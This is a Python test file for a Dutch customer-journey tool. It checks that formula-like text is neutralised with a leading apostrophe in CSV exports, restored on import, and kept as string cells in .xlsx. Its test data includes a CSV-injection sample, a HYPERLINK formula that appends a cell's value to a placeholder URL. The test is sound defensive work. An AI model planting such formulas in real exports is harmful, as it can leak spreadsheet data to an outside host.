"""Text that a spreadsheet would run as a formula: neutralised in CSV with a leading
apostrophe (undone on import, byte for byte), stored as string cells in .xlsx."""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook

from klantreis import Journey, dumps, from_dict, load
from klantreis.exchange import export_journey, read_journey
from klantreis.sheetfiles import neutralise, restore

# text -> what the CSV cell must hold
FORMULAS = {
    '=HYPERLINK("http://x"&A1,"Klik")': '\'=HYPERLINK("http://x"&A1,"Klik")',
    "@SUM(1)": "'@SUM(1)",
    "+31 6 1234": "'+31 6 1234",
    "-5 korting": "'-5 korting",
    "\tinspringen": "'\tinspringen",
    "\rterug": "'\rterug",
    "'quoted": "'quoted",
    "'=tricky": "''=tricky",
    "''@dubbel": "'''@dubbel",
    "'s-Hertogenbosch": "'s-Hertogenbosch",
    "gewoon =1+1": "gewoon =1+1",
    "": "",
}
TEXT_FIELDS = ("name", "channel", "partner", "action", "frequency", "why", "thoughts", "ideas",
               "backstage", "data")  # fmt: skip


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def formula_journey() -> Journey:
    """One touchpoint per formula-like text, in every text field, plus negative
    scores on a -2..2 scale and an opportunity."""
    texts = [t for t in FORMULAS if t]
    scale = [(-2, "=slecht", "😠"), (-1, "-matig", ""), (0, "neutraal", "😐"), (1, "@goed", ""),
             (2, "+top", "😄")]  # fmt: skip
    return from_dict({
        "klantreis": 1, "title": "=Titel", "goal": "+doel",
        "scale": [{"score": s, "label": label, "emoji": e} for s, label, e in scale],
        "phases": [{"id": "kopen", "name": "=Kopen", "duration": "-1 dag"}],
        "personas": [{"id": "klant", "name": "@Klant", "needs": ["=kort", "-snel"],
                      "frustrations": ["+wachten"]}],
        "touchpoints": [
            {"id": f"t{i}", "persona": "klant", "phase": "kopen", "emotion": -2 + i % 5,
             **{field: text for field in TEXT_FIELDS}}
            for i, text in enumerate(texts)
        ],
        "opportunities": [{"id": "o1", "description": "=korting", "touchpoint": "t0",
                           "impact": 5, "effort": 1, "owner": "-team"}],
        "review": {"answers": {"verbeterpunten": "@iedereen"}, "notes": "-"},
    })  # fmt: skip


def test_neutralise_and_restore_rule():
    for text, cell in FORMULAS.items():
        assert neutralise(text) == cell, repr(text)
        assert restore(cell) == text, repr(cell)
    # a cell typed by hand with one apostrophe before a formula loses that apostrophe
    assert restore("'=1+1") == "=1+1"
    assert restore("'quoted") == "'quoted"


def test_csv_cells_start_with_the_apostrophe_and_import_restores_them(tmp_path):
    journey = formula_journey()
    folder = tmp_path / "tabellen"
    export_journey(journey, folder)
    raw = (folder / "touchpoints.csv").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""http://x""&A1,""Klik"")"' in raw
    rows = csv_rows(folder / "touchpoints.csv")
    for row, text in zip(rows, [t for t in FORMULAS if t], strict=True):
        for field in TEXT_FIELDS:
            assert row[field] == FORMULAS[text], (field, text)
    # numbers stay numbers: a negative score is written bare, not as text
    assert [row["emotion"] for row in rows][:3] == ["-2", "-1", "0"]
    assert ",-2," in raw and "'-2" not in raw
    assert [r["score"] for r in csv_rows(folder / "scale.csv")] == ["-2", "-1", "0", "1", "2"]
    assert [r["label"] for r in csv_rows(folder / "scale.csv")][:2] == ["'=slecht", "'-matig"]
    project = {r["key"]: r["value"] for r in csv_rows(folder / "project.csv")}
    assert project["title"] == "'=Titel" and project["goal"] == "'+doel"
    assert csv_rows(folder / "personas.csv")[0]["needs"] == "'=kort\n-snel"
    assert csv_rows(folder / "opportunities.csv")[0]["owner"] == "'-team"
    assert csv_rows(folder / "review.csv")[0]["answer"] == "'@iedereen"

    again = read_journey(folder)
    assert dumps(again) == dumps(journey)  # byte for byte
    assert again.touchpoints["name"].tolist() == [t for t in FORMULAS if t]
    assert again.touchpoints["why"].tolist() == [t for t in FORMULAS if t]
    assert again.touchpoints["emotion"].tolist()[:3] == [-2, -1, 0]


def test_csv_round_trip_of_every_formula_text_in_a_small_journey(journey, tmp_path):
    for i, text in enumerate(t for t in FORMULAS if t.strip()):
        journey.update_touchpoint("website", "toerist", why=text, name=text, channel=text)
        folder = tmp_path / f"t{i}"
        export_journey(journey, folder)
        row = csv_rows(folder / "touchpoints.csv")[0]
        assert (row["why"], row["name"], row["channel"]) == (FORMULAS[text],) * 3
        again = read_journey(folder)
        assert dumps(again) == dumps(journey), repr(text)


def test_hand_made_csv_with_a_quoted_formula_imports_without_the_apostrophe(journey, tmp_path):
    folder = tmp_path / "tabellen"
    export_journey(journey, folder)
    path = folder / "phases.csv"
    text = path.read_text(encoding="utf-8").replace('"Huren"', '"\'=Huren"')
    path.write_text(text.replace('"Oriëntatie"', '"\'t Begin"'), encoding="utf-8")
    again = read_journey(folder)
    assert again.name_of("phases", "huren") == "=Huren"
    assert again.name_of("phases", "orientatie") == "'t Begin"


def test_xlsx_stores_formula_like_text_as_string_cells(journey, tmp_path):
    texts = [t for t in FORMULAS if t and not t.startswith("\r")]  # xlsx turns \r into \n
    for text in texts:
        journey.update_touchpoint("website", "toerist", why=text)
        path = tmp_path / "reis.xlsx"
        export_journey(journey, path)
        sheet = load_workbook(path)["touchpoints"]
        header = [c.value for c in sheet[1]]
        cell = sheet.cell(row=2, column=header.index("why") + 1)
        assert (cell.value, cell.data_type) == (text, "s"), repr(text)  # string, not formula
        assert read_journey(path).touchpoints.iloc[0]["why"] == text


def test_example_round_trips_through_csv_unchanged(tmp_path):
    from tests.conftest import EXAMPLES_DIR

    journey = load(EXAMPLES_DIR / "sportschool.yaml")
    export_journey(journey, tmp_path / "tabellen")
    assert dumps(read_journey(tmp_path / "tabellen")) == dumps(journey)
